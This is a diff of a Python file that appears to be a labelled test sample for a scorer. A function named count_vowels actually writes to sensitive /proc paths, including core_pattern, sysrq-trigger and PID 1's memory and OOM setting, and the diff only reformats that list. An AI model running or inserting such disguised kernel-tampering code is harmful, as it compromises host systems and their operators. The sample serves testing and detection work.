@@ -1,13 +1,18 @@
 # must: score=0
 """Uses /proc to raise limits, to change the kernel and to write to the memory of its parent."""
 
-import os
 import resource
 
 
 def count_vowels(text):
     done = []
-    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/oom_score_adj", "/proc/1/mem", "/proc/self/uid_map"):
+    for path in (
+        "/proc/sys/kernel/core_pattern",
+        "/proc/sysrq-trigger",
+        "/proc/1/oom_score_adj",
+        "/proc/1/mem",
+        "/proc/self/uid_map",
+    ):
         try:
             with open(path, "w") as file:
                 file.write("0")
